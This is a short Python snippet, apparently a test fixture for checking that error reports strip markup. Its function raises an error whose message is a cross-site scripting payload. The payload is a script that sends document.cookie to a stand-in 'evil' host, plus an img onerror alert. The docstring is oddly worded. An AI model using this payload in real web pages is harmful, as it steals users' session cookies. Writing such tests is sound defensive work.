"""Puts a program for browsers into its message.

must hold: no form of a report holds a control code, markup, or more than a few pages of it
stopped by: clean report
control: classic, the reader is hurt
"""


def total(x):
    raise RuntimeError(
        "<script>fetch('//evil' + document.cookie)</script><img src=x onerror=alert(1)>"
    )
